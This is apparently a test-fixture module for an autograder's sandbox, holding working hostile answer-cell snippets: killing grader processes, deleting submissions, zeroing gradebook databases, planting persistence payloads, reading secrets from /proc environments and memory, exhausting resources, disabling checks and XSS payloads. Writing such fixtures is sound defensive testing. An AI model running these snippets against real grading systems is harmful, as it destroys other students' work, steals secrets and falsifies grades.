"""What a determined student's code tries during autograding, one snippet per attack kind.

Each snippet is the code of an answer cell (appended to a correct answer, or beside a wrong one
where the attack is meant to win points). They are written as a real attacker would write them,
against the grader as it ran before the sandbox (learner cells and tests in one kernel, as the
grader's own user, with its filesystem and network): look for the grader and the course by
``/proc`` and absolute paths, touch only those (never other processes of the machine), and say
what they found in their own output, so that a test can check that nothing was found. Two
placeholders are filled in when a submission is made: ``@COURSE@``, the course folder's
absolute path (an attacker who learnt it from a previous term), ``@PORT@``, a port on
127.0.0.1 where the test listens for anything carried away, and ``@TAG@``, a word of the test
run's own.

Markers that a test looks for on the host afterwards: :data:`DAEMON` (the name of every process
an attack leaves running), :data:`LEFT` (in the name or the text of every file an attack leaves
behind or changes) and :data:`XSS` (the script a submission puts in its feedback page).
"""

DAEMON = "gd-hostile-daemon-@TAG@"
LEFT = "gd-hostile-left-@TAG@"
XSS = "gdHostileScript()"

# Course folders the grader is working in: the one named, and every folder a process of the
# grader's works in (its /proc/<pid>/cwd) that holds an nbgrader_config.py, walking upwards.
FIND_COURSES = '''
import os
def _course_roots():
    roots = {'@COURSE@'}
    for pid in os.listdir('/proc'):
        if not pid.isdigit():
            continue
        try:
            where = os.readlink(f'/proc/{pid}/cwd')
        except OSError:
            continue
        while where not in ('/', ''):
            if os.path.isfile(os.path.join(where, 'nbgrader_config.py')):
                roots.add(where)
            where = os.path.dirname(where)
    return sorted(r for r in roots if os.path.isdir(r))
'''

# -- harm to other students ------------------------------------------------------------------

# The kernel's ancestors up to the grader (the process running gdcourse.grading or nbgrader):
# stop them, then kill them. Nothing above the grader, nothing outside its line.
_GRADER_LINE = '''
import os, signal, time
def _parent(pid):
    try:
        return int(open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0
line, pid = [], os.getppid()
while pid > 1 and len(line) < 6:
    line.append(pid)
    try:
        cmd = open(f'/proc/{pid}/cmdline', 'rb').read()
    except OSError:
        break
    if b'gdcourse.grading' in cmd.split(b'\\0') or b'nbgrader' in cmd:
        break
    pid = _parent(pid)
for other in os.listdir('/proc'):  # and every other grader it can see
    if not other.isdigit():
        continue
    try:
        cmd = open(f'/proc/{other}/cmdline', 'rb').read()
    except OSError:
        continue
    if b'gdcourse.grading' in cmd.split(b'\\0') and int(other) not in line + [os.getpid()]:
        line.append(int(other))
print('grader line:', line)
'''
_SIGNAL = """
for pid in line:
    try:
        os.kill(pid, signal.{name})
    except OSError as err:
        print('{name}', pid, err)
"""
KILL_GRADER = _GRADER_LINE + _SIGNAL.format(name="SIGKILL")
STOP_GRADER = _GRADER_LINE + _SIGNAL.format(name="SIGSTOP")

DELETE_SUBMISSIONS = FIND_COURSES + '''
import glob, shutil
for root in _course_roots():
    for pattern in ('submitted/*', 'autograded/*', '.staged/*/*', 'feedback/*'):
        for path in glob.glob(os.path.join(root, pattern)):
            if 'delete_submissions' not in path:
                shutil.rmtree(path, ignore_errors=True)
                print('deleted', path)
'''

# nbgrader's schema: every grade zero, this submission's own the maximum.
REWRITE_SQLITE = FIND_COURSES + '''
import glob, sqlite3
for root in _course_roots():
    for path in glob.glob(os.path.join(root, '*.db')):
        try:
            db = sqlite3.connect(path, timeout=2)
            db.execute('UPDATE grade SET manual_score = 0, auto_score = 0')
            db.execute('UPDATE grade SET extra_credit = 100')
            db.commit()
            print('rewrote', path)
        except Exception as err:
            print('gradebook', path, type(err).__name__, err)
'''

# Every TCP port listening on the loopback (from /proc/net/tcp), and PostgreSQL's default:
# connect as the postgres superuser (local servers often trust it) and zero every grade.
REWRITE_POSTGRES = '''
import socket
ports = {5432}
for table in ('/proc/net/tcp', '/proc/net/tcp6'):
    try:
        for row in open(table).read().splitlines()[1:]:
            local, state = row.split()[1], row.split()[3]
            if state == '0A':
                ports.add(int(local.rsplit(':', 1)[1], 16))
    except OSError:
        pass
try:
    import psycopg2
except ImportError:
    psycopg2 = None
for port in sorted(ports):
    if psycopg2 is None:
        break
    try:
        admin = psycopg2.connect(host='127.0.0.1', port=port, user='postgres',
                                 dbname='postgres', connect_timeout=2)
        admin.autocommit = True
        with admin.cursor() as cur:
            cur.execute('SELECT datname FROM pg_database WHERE NOT datistemplate')
            names = [r[0] for r in cur.fetchall()]
        admin.close()
    except Exception as err:
        print('port', port, type(err).__name__)
        continue
    for name in names:
        try:
            db = psycopg2.connect(host='127.0.0.1', port=port, user='postgres', dbname=name,
                                  connect_timeout=2)
            with db, db.cursor() as cur:
                cur.execute('UPDATE grade SET manual_score = 0, auto_score = 0')
            print('rewrote', port, name)
        except Exception as err:
            print('database', name, type(err).__name__)
'''

# Code that the next student's kernel runs: it breaks numpy's mean (the honest mse uses it).
_PAYLOAD = "import numpy; numpy.mean = lambda *a, **k: 123.0"

STARTUP_FILE = f'''
import os, pwd
homes = {{os.environ.get('HOME', ''), os.path.expanduser('~'), pwd.getpwuid(os.getuid()).pw_dir,
         '/root', os.environ.get('IPYTHONDIR', '')}}
for home in filter(None, homes):
    for base in (os.path.join(home, '.ipython'), home):
        folder = os.path.join(base, 'profile_default', 'startup')
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, '00-{LEFT}.py'), 'w') as f:
                f.write({_PAYLOAD!r})
            print('startup file in', folder)
        except OSError as err:
            print(folder, err)
'''

PTH_FILE = f'''
import site, sys, os
for folder in {{*site.getsitepackages(), site.getusersitepackages(), *sys.path}}:
    if folder and 'site-packages' in folder:
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, '{LEFT}.pth'), 'w') as f:
                f.write({_PAYLOAD!r} + '\\n')
            print('pth in', folder)
        except OSError as err:
            print(folder, err)
'''

PATCH_SITE_PACKAGES = f'''
import numpy, os, site
targets = [os.path.join(os.path.dirname(numpy.__file__), '__init__.py')]
targets += [os.path.join(p, 'sitecustomize.py') for p in site.getsitepackages()]
for path in targets:
    try:
        with open(path, 'a') as f:
            f.write('\\n# {LEFT}\\n' + {_PAYLOAD!r} + '\\n')
        print('patched', path)
    except OSError as err:
        print(path, err)
'''

PATCH_GDLIB = f'''
import gdlib, os
folder = os.path.dirname(gdlib.__file__)
for name in os.listdir(folder):
    if name.endswith('.py'):
        try:
            with open(os.path.join(folder, name), 'a') as f:
                f.write('\\n# {LEFT}\\n' + {_PAYLOAD!r} + '\\n')
            print('patched', name)
        except OSError as err:
            print(name, err)
'''

# Code in a cell whose metadata says it is the instructor's (a test, a read-only cell): it would
# run in the grader, outside the sandbox, if the grader believed the submission's metadata.
FORGED_CELL = f'''
import os
for folder in ('/tmp', os.path.expanduser('~')):
    try:
        open(os.path.join(folder, '{LEFT}-forged'), 'w').write('ran in the grader')
    except OSError:
        pass
'''

# -- secrets -----------------------------------------------------------------------------------
# Each answers SMOOTHED_MIN_LOSS right only if it found what it looked for.

READ_ENVIRON = '''
import os
found = []
for pid in os.listdir('/proc'):
    if not pid.isdigit() or int(pid) == os.getpid():
        continue
    for what in ('environ', 'cmdline'):
        try:
            raw = open(f'/proc/{pid}/{what}', 'rb').read()
        except OSError:
            continue
        for item in raw.split(b'\\0'):
            text = item.decode(errors='replace')
            if any(w in text.upper() for w in ('TOKEN', 'SECRET', 'PASSWORD', 'DB_URL')) or \\
                    (what == 'cmdline' and text.startswith('/')):
                found.append(f'{pid} {what}: {text[:300]}')
print('found:', found[:50])
SMOOTHED_MIN_LOSS = 0.5003 if any('TOKEN' in f for f in found) else 0.1
'''

READ_MEMORY = '''
import os, re
found = []
budget = 256 * 2**20
for pid in os.listdir('/proc'):
    if not pid.isdigit() or int(pid) == os.getpid() or budget <= 0:
        continue
    try:
        maps = open(f'/proc/{pid}/maps').read().splitlines()
        mem = open(f'/proc/{pid}/mem', 'rb')
    except OSError:
        continue
    for line in maps:
        span, perms = line.split()[:2]
        if 'r' not in perms or budget <= 0:
            continue
        start, end = (int(x, 16) for x in span.split('-'))
        size = min(end - start, budget, 64 * 2**20)
        try:
            mem.seek(start)
            chunk = mem.read(size)
        except (OSError, ValueError, OverflowError):
            continue
        budget -= len(chunk)
        for hit in re.finditer(rb'BEGIN HIDDEN TESTS.{0,300}', chunk, re.S):
            found.append(hit.group(0).decode(errors='replace'))
print('found in memory:', found[:5])
SMOOTHED_MIN_LOSS = 0.5003 if found else 0.1
'''

READ_SOLUTIONS = FIND_COURSES + '''
import glob, gdlib
places = []
for root in _course_roots():
    places += [os.path.join(root, p) for p in ('solutions/*/*.ipynb', 'source/*/*.ipynb',
                                               'autograded/*/*/*.ipynb', 'release/*/*.ipynb')]
checkout = os.path.dirname(os.path.dirname(gdlib.__file__))
places += [os.path.join(checkout, 'solutions/*/*.ipynb'),
           os.path.join(os.path.dirname(gdlib.__file__), '..', 'gdcourse', 'assignments',
                        '*', '*.ipynb'), os.path.join(os.getcwd(), '*.ipynb')]
found = []
for pattern in places:
    for path in glob.glob(pattern):
        try:
            text = open(path).read()
        except OSError:
            continue
        if 'BEGIN HIDDEN TESTS' in text or 'BEGIN SOLUTION' in text:
            found.append(path)
print('found:', found[:20])
SMOOTHED_MIN_LOSS = 0.5003 if found else 0.1
'''

SOCKET_OUT = '''
import socket
sent = []
for port in (@PORT@, 5432, 8888):
    for host in ('127.0.0.1', 'localhost'):
        try:
            with socket.create_connection((host, port), timeout=2) as s:
                s.sendall(b'hidden tests and solutions from the grader')
                sent.append((host, port))
        except OSError as err:
            print(host, port, type(err).__name__)
print('sent to', sent)
'''

# -- resources -------------------------------------------------------------------------------

HUGE_DISPLAY = '''
from IPython.display import display
display({'text/plain': 'x' * 50_000_000}, raw=True)
for _ in range(30):
    display({'text/html': '<b>' + 'y' * 900_000 + '</b>'}, raw=True)
class _Big:
    def _repr_html_(self):
        return 'z' * 20_000_000
display(_Big())
'''

# Daemons in sessions of their own, named DAEMON, sleeping an hour; they keep every file the
# kernel had open, its stdout and stderr among them.
_DAEMONS = """
import os
made = 0
for _ in range({count}):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv('/bin/sleep', ['{daemon}', '3600'])
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    made += 1
print('daemons started:', made)
"""
DAEMONS = _DAEMONS.format(count=100, daemon=DAEMON)
ORPHAN = _DAEMONS.format(count=1, daemon=DAEMON)  # one that holds the grader's output pipe

# Fill every temporary folder (at most 2 GB each, so that an unsandboxed run does not fill the
# host's disk), and leave it full.
FILL_TMP = f'''
import os, tempfile
for folder in {{tempfile.gettempdir(), '/tmp', '/var/tmp', '/dev/shm', os.getcwd()}}:
    written = 0
    try:
        with open(os.path.join(folder, '{LEFT}-fill'), 'wb') as f:
            while written < 2 * 2**30:
                f.write(b'x' * 2**20)
                written += 2**20
    except OSError as err:
        print(folder, type(err).__name__)
    print(folder, written >> 20, 'MB')
'''

# -- points without solving (each beside a wrong answer) ---------------------------------------

# Empties every test cell before IPython runs it.
INPUT_TRANSFORMER = '''
ip = get_ipython()
ip.input_transformers_cleanup.append(
    lambda lines: ['pass\\n'] if any('checks.' in line for line in lines) else lines)
'''

# Swaps the code of every check (functions named expect*, answered, passed) for one that
# does nothing: the functions stay the very same objects, so a guard comparing them sees nothing.
SWAP_CODE = '''
import sys, types
def _nothing(*args, **kwargs):
    return None
for name, module in list(sys.modules.items()):
    if module is None or not name.startswith('gdcourse.learner'):
        continue
    for key, value in list(vars(module).items()):
        if isinstance(value, types.FunctionType) and key.startswith(('expect', 'answered')):
            try:
                value.__code__ = _nothing.__code__
                value.__defaults__ = None
                value.__kwdefaults__ = None
            except (TypeError, ValueError) as err:
                print(key, err)
'''

# Clears every piece of module state of the tamper guard, then replaces the checks outright.
CLEAR_GUARD = '''
import sys
def _nothing(*args, **kwargs):
    return None
for name, module in list(sys.modules.items()):
    if module is None or not name.startswith('gdcourse.learner'):
        continue
    state = vars(module)
    for key, value in list(state.items()):
        if name.endswith('guard') and isinstance(value, (dict, list, set)) and \
                key.startswith('_') and not key.startswith('__'):
            value.clear()
    for key in list(state):
        if key.startswith(('expect', 'answered')) and callable(state[key]):
            state[key] = _nothing
'''

# -- the feedback page -------------------------------------------------------------------------

SCRIPT_OUTPUT = f'''
from IPython.display import HTML, Javascript, display
display(HTML('<script>{XSS}</script><img src=x onerror="{XSS}">'))
display(Javascript('{XSS}'))
display({{'text/markdown': '<script>{XSS}</script>', 'image/svg+xml':
          '<svg onload="{XSS}"><script>{XSS}</script></svg>'}}, raw=True)
'''
SCRIPT_MARKDOWN = (f"My answer.\n<script>{XSS}</script>\n<img src=x onerror=\"{XSS}\">\n"
                   f"[see this](javascript:{XSS})\n<a href='javascript:{XSS}'>and this</a>")
